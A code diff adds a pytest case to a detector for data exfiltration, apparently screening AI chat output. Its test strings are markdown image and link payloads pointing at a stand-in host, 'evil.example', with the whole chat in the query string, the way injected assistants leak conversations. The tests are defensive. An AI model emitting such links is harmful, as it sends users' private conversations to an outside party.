@@ -102,6 +102,18 @@ def test_personal_data_of_the_input_does_not_count(text, input, detected):
     assert bool(detect("pii_leak", {"text": text, "input": input})) is detected
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![a](https://a.example/a.png)![b](https://evil.example/?d=the+whole+chat)",  # without a space between
+        "![a][ref] and\n\n[ref]: https://evil.example/?d=the+whole+chat",
+        "see <https://evil.example/?secret=the whole chat>",
+    ],
+)
+def test_every_form_of_a_link_is_read(text):
+    assert detect("data_exfiltration", {"text": text})
+
+
 def test_an_allowed_host_may_receive_data():
     arguments = {"text": "![x](https://img.acme.example/?data=the+whole+chat)", "input": ""}
     assert detect("data_exfiltration", arguments)
